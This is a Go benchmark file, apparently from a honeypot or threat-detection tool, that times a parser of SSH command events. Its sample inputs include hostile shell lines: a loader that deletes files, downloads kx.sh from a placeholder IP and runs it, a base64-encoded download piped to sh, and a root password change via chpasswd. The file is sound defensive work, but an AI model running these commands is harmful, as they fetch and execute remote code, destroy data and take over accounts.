package facts

import (
	"strings"
	"testing"

	"github.com/ttpstream/ttpstream/rules/match"
	"github.com/ttpstream/ttpstream/schemas"
)

func BenchmarkLiftCommand(b *testing.B) {
	for _, bench := range []struct{ name, command string }{
		{"short", "uname -a"},
		{"pipe", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"},
		{"loader", "cd /tmp || cd /var/run || cd /mnt; rm -rf *; wget http://203.0.113.9/kx.sh; curl -O http://203.0.113.9/kx.sh; chmod 777 kx.sh; sh kx.sh; rm -f kx.sh"},
		{"base64", "echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== | base64 -d | sh"},
		{"secret", "echo root:Tr0ub4dor | chpasswd"},
		{"fallback", "wget http://203.0.113.9/u; echo \"never closed"},
		{"64KiB", strings.Repeat("wget http://203.0.113.9/a; ", 64<<10/27)},
	} {
		b.Run(bench.name, func(b *testing.B) {
			var out match.Event
			ev := schemas.CommandEvent{Command: bench.command, Protocol: "ssh"}
			b.ReportAllocs()
			b.SetBytes(int64(len(bench.command)))
			for b.Loop() {
				LiftCommand(&ev, &out)
			}
		})
	}
}
